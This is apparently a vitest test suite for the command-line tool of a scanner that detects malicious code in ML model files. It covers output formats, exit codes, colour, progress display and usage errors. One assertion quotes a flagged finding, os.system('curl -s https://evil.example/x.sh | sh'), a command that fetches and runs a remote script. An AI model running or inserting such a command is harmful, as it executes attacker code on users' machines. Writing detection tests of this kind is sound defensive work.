// Verbs and options as typed, against a scan whose report is the sample: what is printed, written and returned.

import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Report } from '@sentrascan/contract';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { SAMPLE_REPORT } from '../../reports/src/sample-report.ts';
import { runProgram } from './program.ts';
import { recordedIo } from './recorded-io.ts';

const scanLocators = vi.hoisted(() => vi.fn());
vi.mock('./scan-locators.ts', () => ({ scanLocators }));

let folder = '';

beforeEach(() => {
  folder = mkdtempSync(path.join(tmpdir(), 'sentrascan-cli-'));
  writeFileSync(path.join(folder, 'model.pt'), 'weights');
  scanLocators.mockReset();
  scanLocators.mockResolvedValue(SAMPLE_REPORT);
});

afterEach(() => rmSync(folder, { recursive: true, force: true }));

async function run(typed: string, options: Parameters<typeof recordedIo>[0] = {}) {
  const io = recordedIo({ cwd: folder, ...options });
  const code = await runProgram(
    typed.split(' ').filter((word) => word !== ''),
    io,
  );
  return { code, out: io.out(), err: io.err() };
}

describe('scan', () => {
  it('prints text and fails on a critical finding', async () => {
    const { code, out, err } = await run('scan model.pt');
    expect(code).toBe(1);
    expect(out).toMatch(/^MALICIOUS /);
    expect(err).toBe('');
  });

  it('prints JSON that is the report', async () => {
    expect(JSON.parse((await run('scan model.pt --format json')).out)).toEqual(SAMPLE_REPORT);
  });

  it('groups findings in the reports that can, and says so where none can', async () => {
    expect((await run('scan model.pt --group-by cwe')).out).toContain('Not mapped to CWE');
    const { err, out } = await run('scan model.pt --group-by cwe --format json');
    expect(err).toContain('--group-by changes nothing here: it is for html, markdown, text');
    expect(JSON.parse(out)).toEqual(SAMPLE_REPORT);
  });

  it('writes several reports at once, whole', async () => {
    const { code, out } = await run(
      'scan model.pt --format text --output r.json --output sarif=r.log --fail-on none',
    );
    expect(code).toBe(2);
    expect(out).toMatch(/^MALICIOUS /);
    expect(JSON.parse(readFileSync(path.join(folder, 'r.json'), 'utf8'))).toEqual(SAMPLE_REPORT);
    expect(JSON.parse(readFileSync(path.join(folder, 'r.log'), 'utf8')).version).toBe('2.1.0');
    expect(readdirSync(folder).sort()).toEqual(['model.pt', 'r.json', 'r.log']);
  });

  it('never replaces what it scans, unless told to; replaces its own reports', async () => {
    const refused = await run('scan . --output json=model.pt');
    expect(refused.code).toBe(64);
    expect(refused.err).toContain("'model.pt' is one of the files to scan");
    expect(scanLocators).not.toHaveBeenCalled();
    expect(readFileSync(path.join(folder, 'model.pt'), 'utf8')).toBe('weights');
    const views = ['r.summary.json', 'r.mapping.json', 'r.detailed.json', 'r.summary.txt', 'r.detailed.txt'];
    for (const name of ['r.json', 'r.html', 'r.sarif', 'r.md', 'r.txt', ...views]) {
      expect((await run(`scan . --output ${name}`)).code).toBe(1);
      expect((await run(`scan . --output ${name}`)).code, name).toBe(1);
    }
    expect((await run('scan . --force --output json=model.pt')).code).toBe(1);
  });

  it('refuses a file it could not write before it scans', async () => {
    const { code, err } = await run('scan . --output nowhere/r.json');
    expect(code).toBe(64);
    expect(err).toContain("the folder of 'nowhere/r.json' does not exist");
    expect(scanLocators).not.toHaveBeenCalled();
  });

  it('hands on what bounds the scan', async () => {
    await run('scan . --include *.pt --include *.pkl --exclude .git --jobs 2 --timeout 1.5 --max-memory 64');
    expect(scanLocators.mock.calls[0]?.slice(0, 2)).toEqual([
      ['.'],
      {
        include: ['*.pt', '*.pkl'],
        exclude: ['.git'],
        jobs: 2,
        timeoutMs: 1500,
        maxMemoryBytes: 64 * 1024 * 1024,
      },
    ]);
  });

  it('is quiet with --quiet, except for what was asked', async () => {
    expect((await run('scan . --quiet')).out).toBe('');
    expect((await run('scan . --quiet', { isTerminal: true })).err).toBe('');
    expect((await run('scan . --quiet --format text')).out).toMatch(/^MALICIOUS/);
  });

  it('colours a terminal only, and not against NO_COLOR, --no-color or a dumb terminal', async () => {
    const isTerminal = true;
    expect((await run('scan .', { isTerminal })).out).toContain('\x1b[');
    expect((await run('scan .')).out).not.toContain('\x1b');
    expect((await run('scan . --no-color', { isTerminal })).out).not.toContain('\x1b');
    expect((await run('scan .', { isTerminal, env: { NO_COLOR: '1' } })).out).not.toContain('\x1b');
    expect((await run('scan .', { isTerminal, env: { NO_COLOR: '' } })).out).toContain('\x1b[');
    expect((await run('scan .', { isTerminal, env: { TERM: 'dumb' } })).out).not.toContain('\x1b');
  });

  it('shows progress on a terminal and removes it', async () => {
    scanLocators.mockImplementation(async (_paths, _limits, { onProgress }) => {
      onProgress?.({ files: 1, filesTotal: 4, bytes: 512, bytesTotal: 1024, current: 'a\x1b[2J.pt' });
      return SAMPLE_REPORT;
    });
    const { err } = await run('scan .', { isTerminal: true });
    expect(err).toBe(
      `\r\x1b[2K██████████░░░░░░░░░░  50%  512 B of 1 KiB, 1 of 4 files  a\\x1b[2J.pt\r\x1b[2K`,
    );
    expect((await run('scan .')).err).toBe('');
  });

  it('says which path does not exist', async () => {
    const none = await run('scan nowhere.pt');
    expect([none.code, none.out]).toEqual([3, '']);
    expect(none.err).toBe("sentrascan: 'nowhere.pt' does not exist\n");
    const one = await run('scan nowhere.pt model.pt');
    expect(one.err).toContain("'nowhere.pt' does not exist");
    expect(scanLocators.mock.calls[0]?.[0]).toEqual(['nowhere.pt', 'model.pt']);
  });

  it('says when nothing was there to scan', async () => {
    const empty: Report = { ...SAMPLE_REPORT, verdict: 'clean', artifacts: [], findings: [], gaps: [] };
    scanLocators.mockResolvedValue(empty);
    const { code, out, err } = await run('scan .');
    expect([code, out]).toEqual([3, '']);
    expect(err).toContain('nothing to scan');
    expect(JSON.parse((await run('scan . --format json')).out).artifacts).toEqual([]);
  });

  it('says why a bad verdict ends with 0, unless quiet', async () => {
    const [finding] = SAMPLE_REPORT.findings;
    if (finding === undefined) throw new Error('the sample has findings');
    const high: Report = { ...SAMPLE_REPORT, findings: [{ ...finding, severity: 'high' }], gaps: [] };
    scanLocators.mockResolvedValue(high);
    const { code, err } = await run('scan .');
    expect([code, err]).toEqual([
      0,
      'sentrascan: exit 0: nothing at or above critical; --fail-on high would fail\n',
    ]);
    expect((await run('scan . --fail-on none')).err).toContain('exit 0: --fail-on is none; --fail-on high');
    expect((await run('scan . --quiet')).err).toBe('');
    expect(await run('scan . --fail-on high')).toMatchObject({ code: 1, err: '' });
  });

  it('does not wait at a keyboard', async () => {
    const { code, err } = await run('scan -', { isTerminal: true });
    expect(code).toBe(64);
    expect(err).toContain('standard input is a terminal');
  });
});

describe('wrong usage ends with 64, a sentence and a hint', () => {
  it.each([
    ['', 'Usage: sentrascan <command> [options]'],
    ['scan', "sentrascan: missing required argument 'path'\nSee: sentrascan scan --help\n"],
    ['scna .', "sentrascan: unknown command 'scna'\nDid you mean scan?\n"],
    ['model.pt', "sentrascan: 'model.pt' is not a command\nDid you mean: sentrascan scan model.pt\n"],
    ['scan . --frmat json', "sentrascan: unknown option '--frmat'\nDid you mean --format?\n"],
    [
      'scan . --fail-on worst',
      "sentrascan: 'worst' is not a severity\n--fail-on takes critical, high, medium, low or none.\n",
    ],
    ['scan . --jobs 0', 'sentrascan: --jobs takes a whole number of processes'],
    ['scan . --timeout 1e9', 'sentrascan: --timeout takes a number of seconds'],
    ['scan . --timeout -1', 'sentrascan: --timeout takes a number of seconds'],
    ['scan . --max-memory 0.001', 'sentrascan: --max-memory takes a number of MiB'],
    ['scan . --include [', "sentrascan: --include takes a glob, and '[' is none: a closing ] is missing\n"],
    [
      'scan . --exclude a)',
      "sentrascan: --exclude takes a glob, and 'a)' is none: an opening ( is missing\n",
    ],
    ['help scna', "sentrascan: unknown command 'scna'\nDid you mean scan?\n"],
    [
      'scan . --format xml',
      "sentrascan: 'xml' is not a report format\n--format takes detailed-text, detailed, html, json, ",
    ],
    ['explain nothing/like-it', "sentrascan: there is no rule 'nothing/like-it'\n"],
    ['explain v1:1111', 'sentrascan: a fingerprint needs a report or a path to look in\n'],
    [
      'scan . --group-by colour',
      "sentrascan: 'colour' is nothing to group by\n--group-by takes severity, artifact, rule, category, cwe, ",
    ],
    ['limits --format xml', "sentrascan: limits cannot be printed as 'xml'\n"],
  ])('%s', async (typed, sentence) => {
    const { code, out, err } = await run(typed);
    expect(err.startsWith(sentence), err).toBe(true);
    expect([code, out]).toEqual([64, '']);
  });
});

describe('explain', () => {
  it('finds a finding in a report, or in a new scan', async () => {
    writeFileSync(path.join(folder, 'r.json'), JSON.stringify(SAMPLE_REPORT));
    const { code, out } = await run('explain v1:1111 --report r.json');
    expect(code).toBe(0);
    expect(out).toContain("call         os.system('curl -s https://evil.example/x.sh | sh')");
    expect(out).toContain('Excerpt\n      2: c GLOBAL');
    expect((await run('explain v1:1111 model.pt')).out).toBe(out);
    await run('scan model.pt --format detailed --output d.json');
    expect((await run('explain v1:1111 --report d.json')).out).toBe(out);
  });

  it('says when a fingerprint fits none or several', async () => {
    expect((await run('explain v1:9 model.pt')).err).toContain('no finding has the fingerprint v1:9');
    expect((await run('explain v1: model.pt')).err).toContain('5 findings begin with v1:');
    const broken = { ...SAMPLE_REPORT, findings: [{ fingerprint: 'v1:1' }] };
    for (const text of ['{}', 'null', JSON.stringify(broken)]) {
      writeFileSync(path.join(folder, 'r.json'), text);
      expect((await run('explain v1:1 --report r.json')).err).toContain(
        "'r.json' is not a SentraScan report",
      );
    }
  });
});

it('prints help, rules and limits', async () => {
  expect((await run('help')).out).toBe((await run('--help')).out);
  expect((await run('help scan')).out).toBe((await run('scan --help')).out);
  const help = await run('--help');
  expect(help.code).toBe(0);
  for (const verb of ['scan', 'explain', 'rules', 'limits', '--version']) expect(help.out).toContain(verb);
  expect((await run('scan --help')).out).toContain('(default: critical)');
  // The rule that help names exists.
  const [, named = ''] = /sentrascan explain (\S+\/\S+)/.exec(help.out) ?? [];
  expect((await run(`explain ${named}`)).code).toBe(0);
  expect((await run('limits')).out).toMatch(/^nestingLevels {2}8 levels \(CWE-674\)\n {2}Honest artifacts/m);
  expect(JSON.parse((await run('limits --format json')).out).nestingLevels.unit).toBe('levels');
  expect(Array.isArray(JSON.parse((await run('rules --format json')).out))).toBe(true);
  expect((await run('rules')).code).toBe(0);
});
